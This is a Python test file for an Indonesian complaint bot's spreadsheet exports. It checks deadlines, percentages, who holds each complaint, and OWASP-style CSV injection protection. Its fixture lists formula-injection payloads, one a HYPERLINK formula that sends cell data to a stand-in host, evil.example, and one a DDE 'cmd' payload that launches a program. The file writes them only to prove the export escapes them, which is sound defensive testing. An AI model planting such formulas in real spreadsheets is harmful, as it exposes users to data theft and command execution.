"""What a person reads in the /rekap spreadsheets, cell by cell: the deadline as the end of its day, the
on-time share as a percentage, who holds a complaint now (nobody's office once it is finished), and text
that stays text whatever the reporter typed (no formula, OWASP's CSV-injection rules)."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import UTC, datetime
from typing import Any

import pytest
from openpyxl import load_workbook

from bot.ui.report_rendering import to_csv, to_xlsx
from storage.reports.figures import ComplaintRow, OrgReturns, Report, build_report, complaint_rows
from tests.conftest import World
from tests.reports.december import CALENDAR, DECEMBER, NOW, build_december, wib
from tests.reports.test_documents import _report

# Every first character OWASP names as starting a formula in some spreadsheet, and a plain one.
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1;"klik")',
    "=cmd|' /C calc'!A0",
    "+62 812 3456 7890",
    "-2+3",
    "@SUM(1;2)",
    "\t=1+1",
    "\r=1+1",
)


@pytest.fixture
async def december(world: World) -> tuple[Report, list[ComplaintRow]]:
    await build_december(world)
    args = (world.complaints.sessions, CALENDAR, world.orgs["JATENG"], DECEMBER)
    return (
        await build_report(*args, now=NOW.astimezone(UTC)),
        await complaint_rows(*args, now=NOW.astimezone(UTC)),
    )


def _complaints(document: bytes) -> list[dict[str, Any]]:
    sheet = load_workbook(io.BytesIO(document))["Pengaduan"]
    table = list(sheet.iter_rows(values_only=True))
    return [dict(zip(table[0], line, strict=True)) for line in table[1:]]


def _csv(document: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(document.decode("utf-8-sig"))))


async def test_the_deadline_reads_as_the_end_of_its_day(december: tuple[Report, list[ComplaintRow]]) -> None:
    report, rows = december
    # C4 was received Mon 7 Dec 10:00: due at the end of Wed 9 Dec, not at midnight on the 10th.
    assert [to_wib_day(row.deadline) for row in rows[2:3]] == ["2026-12-09 23:59:59"]
    c4 = _complaints(to_xlsx(report, rows, "id"))[2]
    assert c4["Tenggat (WIB)"] == datetime(2026, 12, 9, 23, 59)
    assert _csv(to_csv(rows, "id"))[2]["Tenggat (WIB)"] == "2026-12-09T23:59:59+07:00"


def to_wib_day(moment: datetime) -> str:
    from workflow.calendar import to_wib

    return f"{to_wib(moment):%Y-%m-%d %H:%M:%S}"


def test_the_on_time_share_is_a_percentage() -> None:
    book = load_workbook(io.BytesIO(to_xlsx(_report(), [], "id")))
    cells = {row[0].value: row[1] for row in book["Ringkasan"].iter_rows() if len(row) > 1 and row[0].value}
    share = cells["Tepat waktu"]
    assert share.value == 1.0
    assert share.number_format == "0%"  # Excel and LibreOffice show 100%, not 1
    assert cells["Rata-rata penilaian"].value is None  # no ratings: an empty cell, not 0


async def test_a_finished_complaint_is_held_by_no_office(december: tuple[Report, list[ComplaintRow]]) -> None:
    report, rows = december
    expected = {
        "closed": "Selesai (ditutup)",
        "rejected": "Selesai (ditolak)",
        "resolved": "Pelapor (hasil terkirim)",
        "at_province": "Pemerintah Provinsi Jawa Tengah",
        "at_city": "Dinkominfo Kota Pekalongan",
    }
    states = [row.state for row in rows]
    assert sorted(set(states)) == sorted(expected)
    xlsx = _complaints(to_xlsx(report, rows, "id"))
    csv_rows = _csv(to_csv(rows, "id"))
    for state, line, csv_line in zip(states, xlsx, csv_rows, strict=True):
        assert line["Posisi sekarang"] == csv_line["Posisi sekarang"] == expected[state], state
    english = load_workbook(io.BytesIO(to_xlsx(report, rows, "en")))["Complaints"]
    table = list(english.iter_rows(values_only=True))
    held = {line[2]: line[table[0].index("Now with")] for line in table[1:]}
    assert held["Closed"] == "Finished (closed)"
    assert held["Result sent"] == "The reporter (result sent)"


async def test_yes_and_no_read_as_words(december: tuple[Report, list[ComplaintRow]]) -> None:
    report, rows = december
    c2 = _complaints(to_xlsx(report, rows, "id"))[1]
    assert (c2["Tepat waktu"], c2["Lewat tenggat sekarang"]) == ("ya", "tidak")


def _hostile_rows() -> list[ComplaintRow]:
    base = ComplaintRow(
        tracking_number="LG-2026-000001",
        received_at=wib(12, 1, 9),
        state="at_city",
        channel="telegram",
        subject="",
        city="Dinkominfo Kota Pekalongan",
        opd="",
        holder="Dinkominfo Kota Pekalongan",
        deadline=wib(12, 3, 23, 59),
        resolved_at=None,
        working_days_to_complete=None,
        on_time=None,
        overdue_now=False,
        returns=0,
        rating=None,
    )
    return [replace(base, tracking_number=f"LG-2026-{n:06d}", subject=text) for n, text in enumerate(HOSTILE)]


def test_xlsx_text_is_never_a_formula() -> None:
    rows = _hostile_rows()
    reasons = tuple((text, 1) for text in HOSTILE)
    report = _report(returns=(OrgReturns(9, "=Dinas(1)", len(HOSTILE), {"return_to_city": 7}, reasons),))
    book = load_workbook(io.BytesIO(to_xlsx(report, rows, "id")))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value[:1] in ("=", "+", "-", "@", "\t", "\r"):
                    assert cell.quotePrefix, cell.coordinate  # Excel keeps it text even when edited
                texts.append(cell.value)
    subjects = [line["Perihal"] for line in _complaints(to_xlsx(report, rows, "id"))]
    # Shown as typed (XML itself reads a carriage return in text as a line feed).
    assert subjects == [text.replace("\r", "\n") for text in HOSTILE]
    assert "=Dinas(1)" in texts
    summary = [row for row in book["Ringkasan"].iter_rows(values_only=True) if row and row[0] == "=Dinas(1)"]
    assert summary
    assert str(summary[0][2]).startswith("=HYPERLINK")


def test_csv_text_is_never_a_formula() -> None:
    rows = _hostile_rows()
    document = to_csv(rows, "id")
    table = list(csv.reader(io.StringIO(document.decode("utf-8-sig"), newline="")))
    for line in table:
        for value in line:
            assert value[:1] not in ("=", "+", "-", "@", "\t", "\r"), value
    subjects = [line[table[0].index("Perihal")] for line in table[1:]]
    assert subjects == ["'" + text for text in HOSTILE]  # OWASP: a leading apostrophe, the rest as typed
    assert all(line[table[0].index("Nomor")].startswith("LG-") for line in table[1:])
    # Every text field is quoted, so a separator inside a subject cannot start a new cell in a
    # spreadsheet that splits on ";" (as Indonesian Excel does).
    raw = document.decode("utf-8-sig").splitlines()
    assert raw[1].startswith('"LG-2026-000000","2026-12-01T09:00:00+07:00"')


def test_plain_text_is_left_alone() -> None:
    rows = [replace(_hostile_rows()[0], subject="Jalan rusak - Jl. Merdeka")]
    table = _csv(to_csv(rows, "id"))
    assert table[0]["Perihal"] == "Jalan rusak - Jl. Merdeka"
    assert _complaints(to_xlsx(_report(), rows, "id"))[0]["Perihal"] == "Jalan rusak - Jl. Merdeka"
